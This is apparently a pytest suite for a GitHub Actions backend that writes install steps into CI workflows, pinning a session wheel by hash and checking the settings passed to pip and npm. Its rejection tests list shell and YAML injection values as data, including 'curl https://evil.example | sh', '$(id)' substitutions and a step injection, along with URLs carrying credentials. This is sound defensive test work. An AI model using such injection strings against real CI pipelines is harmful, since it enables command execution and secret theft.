"""What the synced workflows install before the session: by default the wheel of the session program
this orchestrator serves (pinned to its sha256) and the default agent; the settings choose otherwise,
and no value of them can leave its shell word or its line of the workflow."""

from __future__ import annotations

import hashlib
import importlib.metadata
import os
import re
import shutil
import stat
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from aiimpl_core import session_package
from aiimpl_core.errors import ConfigError, ProviderConfigError
from aiimpl_core.testing.contract import make_context, sample_mapping
from aiimpl_core.testing.fake_github import FakeGitHub

from aiimpl_gha import workflows
from aiimpl_gha.backend import GitHubActionsBackend

from .conftest import CORE_REQUIREMENT, github_config, synced

FILES = ("ai-implement.yml", "ai-implement-gap-fill.yml", "ai-implement-planning.yml")
INSTALL_STEP = "Install AI-Implement and the agent"
IMPLEMENTATION = ".github/workflows/ai-implement.yml"


def make(gh: FakeGitHub, **settings: str) -> GitHubActionsBackend:
    return GitHubActionsBackend(make_context({**github_config(gh), **settings}))


def sync_all(backend: GitHubActionsBackend) -> None:
    backend.sync_workflows(sample_mapping(planning_enabled=True))


def install_step(text: str) -> str:
    doc = yaml.safe_load(text)
    steps = next(iter(doc["jobs"].values()))["steps"]
    (step,) = [s for s in steps if s.get("name") == INSTALL_STEP]
    return step["run"]


def run_install(script: str, tmp_path: Path) -> list[list[str]]:
    """Run an install step with ``python`` and ``npm`` that only say their arguments, one command a
    list: what pip and npm would be given."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(parents=True)
    calls = tmp_path / "calls"
    for tool in ("python", "npm"):
        stub = bin_dir / tool
        stub.write_text(f'#!/bin/sh\n{{ echo "{tool}"; printf \'%s\\n\' "$@"; echo "--"; }} >> "$CALLS"\n')
        stub.chmod(stub.stat().st_mode | stat.S_IEXEC)
    env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}", "CALLS": str(calls)}
    subprocess.run(["bash", "-e", "-c", script], env=env, cwd=tmp_path, check=True, capture_output=True)
    said = calls.read_text().split("--\n") if calls.exists() else []
    return [part.splitlines() for part in said if part]


def fake_package(version: str, content: bytes = b"wheel") -> session_package.SessionPackage:
    return session_package.SessionPackage(
        f"aiimpl_core-{version}-py3-none-any.whl", content, hashlib.sha256(content).hexdigest()
    )


def test_sync_installs_this_orchestrators_session_program(gh: FakeGitHub) -> None:
    sync_all(make(gh))
    for name in FILES:
        text = gh.file("acme", "api", f".github/workflows/{name}")
        assert text == synced(name)
        assert install_step(text).splitlines() == [
            f"python -m pip install --upgrade '{CORE_REQUIREMENT}'",
            "npm install --global @anthropic-ai/claude-code",
        ]


@pytest.mark.skipif(not shutil.which("bash"), reason="needs bash")
def test_the_default_session_program_is_the_wheel_this_orchestrator_serves(
    gh: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No package index is asked: pip gets the wheel from the orchestrator and checks its hash."""
    sha = hashlib.sha256(b"wheel").hexdigest()
    monkeypatch.setattr(workflows, "core_package", lambda: fake_package("0.1.0"))
    make(gh, AIIMPL_PUBLIC_URL="https://ai.acme.example/orchestrator/").sync_workflows(sample_mapping())
    text = gh.file("acme", "api", IMPLEMENTATION)
    wheel = (f"aiimpl-core @ https://ai.acme.example/orchestrator/runner/session-package/{sha}/"
             f"aiimpl_core-0.1.0-py3-none-any.whl#sha256={sha}")
    assert install_step(text).splitlines()[0] == f"python -m pip install --upgrade '{wheel}'"
    pip = run_install(install_step(text), tmp_path)[0]
    assert pip == ["python", "-m", "pip", "install", "--upgrade", wheel]


def test_the_default_is_this_orchestrators_own_wheel_and_hash() -> None:
    """At the URL of its hash, which serves it whatever wheel a later deploy runs."""
    package = session_package.current()
    sha = hashlib.sha256(package.data).hexdigest()
    assert workflows.core_requirement("http://orchestrator.test") == (
        f"aiimpl-core @ http://orchestrator.test/runner/session-package/{sha}/{package.filename}#sha256={sha}"
    )
    assert package.filename == f"aiimpl_core-{importlib.metadata.version('aiimpl-core')}-py3-none-any.whl"


def test_an_upgraded_orchestrator_updates_the_workflows_on_its_next_sync(
    gh: FakeGitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workflows, "core_package", lambda: fake_package("0.1.0"))
    backend = make(gh)
    backend.sync_workflows(sample_mapping())
    assert backend.sync_workflows(sample_mapping()).updated == ()
    monkeypatch.setattr(workflows, "core_package", lambda: fake_package("0.2.0"))
    result = backend.sync_workflows(sample_mapping())
    assert result.updated == (IMPLEMENTATION, ".github/workflows/ai-implement-gap-fill.yml")
    text = gh.file("acme", "api", IMPLEMENTATION)
    sha = hashlib.sha256(b"wheel").hexdigest()
    assert ("python -m pip install --upgrade 'aiimpl-core @ http://orchestrator.test/runner/session-package/"
            f"{sha}/aiimpl_core-0.2.0-py3-none-any.whl#sha256={sha}'\n") in text


def test_a_sync_has_the_orchestrator_keep_the_wheel_it_pins(
    app: Any, gh: FakeGitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Kept in the database (once), served by its hash after a deploy runs another wheel; a
    session program of the operator's own keeps nothing."""
    from aiimpl_core.extensions import db
    from aiimpl_core.orm import StoredSessionPackage

    def kept() -> list[tuple[str, str, bytes]]:
        db.session.rollback()
        return [(r.sha256, r.filename, r.data) for r in db.session.scalars(db.select(StoredSessionPackage))]

    make(gh, AIIMPL_GHA_SESSION_PACKAGE="aiimpl-core==0.1.0").sync_workflows(sample_mapping())
    assert kept() == []
    monkeypatch.setattr(workflows, "core_package", lambda: fake_package("0.1.0", b"before"))
    backend = make(gh)
    backend.sync_workflows(sample_mapping())
    backend.sync_workflows(sample_mapping())  # (unchanged: pinned again, stored once)
    before = (hashlib.sha256(b"before").hexdigest(), "aiimpl_core-0.1.0-py3-none-any.whl", b"before")
    assert kept() == [before]
    monkeypatch.setattr(workflows, "core_package", lambda: fake_package("0.1.0", b"after"))
    backend.sync_workflows(sample_mapping())
    after = (hashlib.sha256(b"after").hexdigest(), "aiimpl_core-0.1.0-py3-none-any.whl", b"after")
    assert sorted(kept()) == sorted([before, after])
    assert session_package.find(f"{before[0]}/{before[1]}") == fake_package("0.1.0", b"before")


def test_other_files_of_the_same_version_update_the_workflows_on_the_next_sync(
    gh: FakeGitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A deploy that kept the version but changed the program is another hash: pip would refuse the
    wheel the orchestrator now serves, so the sync writes the new one."""
    monkeypatch.setattr(workflows, "core_package", lambda: fake_package("0.1.0", b"before"))
    backend = make(gh)
    backend.sync_workflows(sample_mapping())
    monkeypatch.setattr(workflows, "core_package", lambda: fake_package("0.1.0", b"after"))
    assert backend.sync_workflows(sample_mapping()).updated == (
        IMPLEMENTATION, ".github/workflows/ai-implement-gap-fill.yml"
    )
    text = gh.file("acme", "api", IMPLEMENTATION)
    assert f"#sha256={hashlib.sha256(b'after').hexdigest()}'\n" in text
    assert hashlib.sha256(b"before").hexdigest() not in text


@pytest.mark.parametrize("version", ["0.1.dev3+g1234abc", "0.2.0+local", "0.2.0.dev3"],
                         ids=["scm", "local", "dev"])
def test_any_version_is_served_and_pinned(
    gh: FakeGitHub, monkeypatch: pytest.MonkeyPatch, version: str
) -> None:
    """A local version is no reason to refuse: no package index is asked for it."""
    monkeypatch.setattr(workflows, "core_package", lambda: fake_package(version))
    make(gh).sync_workflows(sample_mapping())
    sha = hashlib.sha256(b"wheel").hexdigest()
    assert (f"/runner/session-package/{sha}/aiimpl_core-{version}-py3-none-any.whl#sha256={sha}'"
            in gh.file("acme", "api", IMPLEMENTATION))


def test_without_an_installed_distribution_the_sync_is_refused_until_the_package_is_set(
    gh: FakeGitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    def not_installed() -> session_package.SessionPackage:
        raise ConfigError("the version of this orchestrator's aiimpl-core is not known (not installed)")

    monkeypatch.setattr(session_package, "current", not_installed)
    with pytest.raises(ProviderConfigError) as err:
        make(gh).sync_workflows(sample_mapping())
    assert err.value.message == (
        "the version of this orchestrator's aiimpl-core is not known (not installed): set "
        "AIIMPL_GHA_SESSION_PACKAGE to what the workflows install as the session program (a wheel URL, "
        "git+https://…@<commit>, or a requirement on your own index)"
    )
    assert gh.server.requests_to("PUT") == []
    wheel = "https://files.acme.example/aiimpl_core-0.1.dev3-py3-none-any.whl"
    make(gh, AIIMPL_GHA_SESSION_PACKAGE=wheel).sync_workflows(sample_mapping())
    assert f"pip install --upgrade {wheel}\n" in gh.file("acme", "api", IMPLEMENTATION)


@pytest.mark.parametrize(("url", "said"), [
    ("", "AIIMPL_PUBLIC_URL is not set: the workflows install the session program from this orchestrator; "
         "set it to the URL runners reach this orchestrator at, or set AIIMPL_GHA_SESSION_PACKAGE"),
    ("  ", "AIIMPL_PUBLIC_URL is not set"),
    ("ftp://orchestrator.acme.example", "AIIMPL_PUBLIC_URL must be an http:// or https:// URL with a host"),
    ("orchestrator.acme.example", "AIIMPL_PUBLIC_URL must be an http:// or https:// URL with a host"),
    ("https://", "AIIMPL_PUBLIC_URL must be an http:// or https:// URL with a host"),
    ("https://[orchestrator", "AIIMPL_PUBLIC_URL must be an http:// or https:// URL with a host"),
    ("https://orchestrator.acme.example/?x=1", "AIIMPL_PUBLIC_URL must be an http:// or https:// URL"),
    ("https://orchestrator.acme.example/#x", "AIIMPL_PUBLIC_URL must be an http:// or https:// URL"),
    ("https://orchestrator.acme.example/${{ secrets.X }}", "AIIMPL_PUBLIC_URL must be an http:// or https://"),
    ("https://orchestrator.acme.example/'x", "AIIMPL_PUBLIC_URL must be an http:// or https:// URL"),
    ("https://ci:s3cr3t-pw@orchestrator.acme.example", "AIIMPL_PUBLIC_URL must not carry credentials"),
], ids=["unset", "spaces", "scheme", "no-scheme", "no-host", "bracket", "query", "fragment", "expression",
        "quote", "credentials"])
def test_a_public_url_the_workflows_cannot_install_from_is_refused(
    gh: FakeGitHub, url: str, said: str
) -> None:
    with pytest.raises(ProviderConfigError, match=f"^{re.escape(said)}") as err:
        make(gh, AIIMPL_PUBLIC_URL=url).sync_workflows(sample_mapping())
    assert "s3cr3t" not in err.value.message
    assert "AIIMPL_GHA_SESSION_PACKAGE to what the workflows install" in err.value.message
    assert gh.server.requests_to("PUT") == []
    # the setting needs no public URL of the orchestrator
    make(gh, AIIMPL_PUBLIC_URL=url, AIIMPL_GHA_SESSION_PACKAGE="aiimpl-core==0.1.0").sync_workflows(
        sample_mapping())
    assert "pip install --upgrade aiimpl-core==0.1.0\n" in gh.file("acme", "api", IMPLEMENTATION)


@pytest.mark.skipif(not shutil.which("bash"), reason="needs bash")
@pytest.mark.parametrize(("setting", "pip"), [
    ("--index-url https://pypi.acme.example/simple aiimpl-core==0.1.0",
     ["--index-url", "https://pypi.acme.example/simple", "aiimpl-core==0.1.0"]),
    ("https://files.acme.example/aiimpl_core-0.1.0-py3-none-any.whl#sha256=ab12",
     ["https://files.acme.example/aiimpl_core-0.1.0-py3-none-any.whl#sha256=ab12"]),
    ("aiimpl-core @ git+https://github.com/acme/ai-implement@v0.1.0",
     ["aiimpl-core@git+https://github.com/acme/ai-implement@v0.1.0"]),
    ("aiimpl-core[postgres]>=0.1,<0.2", ["aiimpl-core[postgres]>=0.1,<0.2"]),
    ("aiimpl-core==0.1.*", ["aiimpl-core==0.1.*"]),
    ("https://files.acme.example/get?name=aiimpl-core&v=0.1", ["https://files.acme.example/get?name=aiimpl-core&v=0.1"]),
], ids=["index", "wheel", "git", "range", "wildcard", "query"])
@pytest.mark.parametrize(("agent", "npm"), [
    (None, [["install", "--global", "@anthropic-ai/claude-code"]]),
    ("@anthropic-ai/claude-code@1.0.3", [["install", "--global", "@anthropic-ai/claude-code@1.0.3"]]),
    ("--registry=https://npm.acme.example/ @anthropic-ai/claude-code@>=1.0",
     [["install", "--global", "--registry=https://npm.acme.example/", "@anthropic-ai/claude-code@>=1.0"]]),
    ("none", []),
    ("NONE", []),
], ids=["default", "pinned", "registry", "none", "NONE"])
def test_the_settings_reach_pip_and_npm_word_for_word(
    gh: FakeGitHub, tmp_path: Path, setting: str, pip: list[str], agent: str | None, npm: list[list[str]]
) -> None:
    settings = {"AIIMPL_GHA_SESSION_PACKAGE": setting}
    if agent:
        settings["AIIMPL_GHA_AGENT_PACKAGE"] = agent
    sync_all(make(gh, **settings))
    for name in FILES:
        text = gh.file("acme", "api", f".github/workflows/{name}")
        calls = run_install(install_step(text), tmp_path / name)
        assert calls == [["python", "-m", "pip", "install", "--upgrade", *pip], *(["npm", *c] for c in npm)]
        assert ("npm install" in text) is bool(npm)
        assert "setup-node" in text  # an agent command of the mapping's own may still need Node.js


@pytest.mark.skipif(not shutil.which("bash"), reason="needs bash")
def test_what_the_shell_would_read_is_given_to_pip_as_words(gh: FakeGitHub, tmp_path: Path) -> None:
    value = "aiimpl-core && touch pwned > out < in & touch pwned2 #"
    make(gh, AIIMPL_GHA_SESSION_PACKAGE=value).sync_workflows(sample_mapping())
    text = gh.file("acme", "api", ".github/workflows/ai-implement.yml")
    calls = run_install(install_step(text), tmp_path)
    assert calls[0] == ["python", "-m", "pip", "install", "--upgrade", *value.split()]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bin", "calls"]  # nothing else ran


@pytest.mark.parametrize("setting", ["AIIMPL_GHA_SESSION_PACKAGE", "AIIMPL_GHA_AGENT_PACKAGE"])
@pytest.mark.parametrize("value", [
    "aiimpl-core; curl https://evil.example | sh",
    "aiimpl-core$(id)",
    "aiimpl-core`id`",
    "aiimpl-core'; id; '",
    'aiimpl-core" && id && "',
    "aiimpl-core\n      - run: id",
    "aiimpl-core\nrun: id",
    "aiimpl-core\r",
    "aiimpl-core\tid",
    "aiimpl-core\\",
    "${{ secrets.ANTHROPIC_API_KEY }}",
    "aiimpl-core\x00",
    "aiimpl-core\u2028id",
    "aiimpl-core (id)",
], ids=["semicolon", "substitution", "backquote", "quote", "double-quote", "yaml-step", "yaml-key",
        "return", "tab", "backslash", "expression", "nul", "line-separator", "parenthesis"])
def test_a_value_that_could_leave_its_word_or_line_is_refused(
    gh: FakeGitHub, setting: str, value: str
) -> None:
    backend = make(gh, **{setting: value})
    with pytest.raises(ProviderConfigError, match=f"^{setting} must be one line of package specs"):
        backend.sync_workflows(sample_mapping())
    assert gh.server.requests_to("PUT") == []


@pytest.mark.parametrize("setting", ["AIIMPL_GHA_SESSION_PACKAGE", "AIIMPL_GHA_AGENT_PACKAGE"])
@pytest.mark.parametrize("value", [
    "--index-url https://ci:s3cr3t-pw@pypi.acme.example/simple aiimpl-core==0.1.0",
    "git+https://s3cr3t-token@github.com/acme/ai-implement@v0.1.0",
    "aiimpl-core@git+https://x-access-token:s3cr3t-token@github.com/acme/ai-implement",
    "git+ssh://git:s3cr3t-pw@github.com/acme/ai-implement",
], ids=["index", "token", "direct-reference", "ssh-password"])
def test_credentials_in_a_url_are_refused_without_being_said(
    gh: FakeGitHub, setting: str, value: str
) -> None:
    """The workflow file is readable by anyone who can read the repository."""
    with pytest.raises(ProviderConfigError, match=f"^{setting} must not carry credentials in a URL") as err:
        make(gh, **{setting: value}).sync_workflows(sample_mapping())
    assert "s3cr3t" not in err.value.message
    assert gh.server.requests_to("PUT") == []


def test_an_ssh_user_without_a_password_is_no_credential(gh: FakeGitHub) -> None:
    value = "git+ssh://git@github.com/acme/ai-implement@v0.1.0"
    make(gh, AIIMPL_GHA_SESSION_PACKAGE=value).sync_workflows(sample_mapping())
    assert f"--upgrade {value}\n" in gh.file("acme", "api", IMPLEMENTATION)


@pytest.mark.parametrize(("value", "said"), [
    ("--upgrade --pre", "AIIMPL_GHA_SESSION_PACKAGE names nothing to install"),
    ("https://[pypi.acme.example/x.whl", "AIIMPL_GHA_SESSION_PACKAGE holds a URL that is not valid"),
])
def test_a_session_package_that_installs_nothing_is_refused(gh: FakeGitHub, value: str, said: str) -> None:
    with pytest.raises(ProviderConfigError, match=f"^{said}"):
        make(gh, AIIMPL_GHA_SESSION_PACKAGE=value).sync_workflows(sample_mapping())


@pytest.mark.parametrize("settings", [
    {}, {"AIIMPL_GHA_SESSION_PACKAGE": ""}, {"AIIMPL_GHA_SESSION_PACKAGE": " "},
    {"AIIMPL_GHA_AGENT_PACKAGE": ""}, {"AIIMPL_GHA_AGENT_PACKAGE": " "},
])
def test_empty_settings_are_their_defaults(gh: FakeGitHub, settings: dict[str, Any]) -> None:
    make(gh, **settings).sync_workflows(sample_mapping())
    assert gh.file("acme", "api", IMPLEMENTATION) == synced("ai-implement.yml")
